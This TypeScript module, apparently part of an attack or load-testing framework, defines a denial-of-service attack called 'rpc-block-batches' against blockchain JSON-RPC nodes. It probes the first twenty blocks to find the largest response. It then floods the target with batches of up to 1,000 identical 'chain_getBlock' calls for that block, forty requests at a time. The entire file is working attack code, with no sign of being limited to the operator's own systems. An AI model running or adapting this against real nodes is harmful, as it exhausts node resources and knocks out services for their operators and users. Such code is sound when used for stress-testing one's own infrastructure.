import type { Attack, Target } from '../attack.ts';
import { onEach, postAgain } from '../http.ts';

/** Calls for the heights of the largest blocks that a look at some of them has found. */
const bodiesOf = async ({ rpc }: Target): Promise<readonly string[]> => {
  const call = (height: number): string =>
    `{"jsonrpc":"2.0","id":1,"method":"chain_getBlock","params":{"height":${height}}}`;
  const lengths: { readonly height: number; readonly length: number }[] = [];
  for (let height = 1; height <= 20; height++) {
    const answer = await fetch(rpc, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: call(height),
    }).then(
      (response) => response.text(),
      () => '',
    );
    lengths.push({ height, length: answer.length });
  }
  const [largest] = lengths.sort((a, b) => b.length - a.length);
  return [1_000, 100].map(
    (calls) =>
      `[${Array(calls)
        .fill(call(largest?.height ?? 1))
        .join(',')}]`,
  );
};

export const attack: Attack = {
  name: 'rpc-block-batches',
  what: 'Batches of up to 1,000 calls ask for the same large block, forty at a time.',
  run: ({ targets }, signal) =>
    onEach(targets, async (target) => {
      const bodies = await bodiesOf(target);
      return postAgain(target, (turn) => bodies[turn % bodies.length] ?? '', 40, signal);
    }),
};
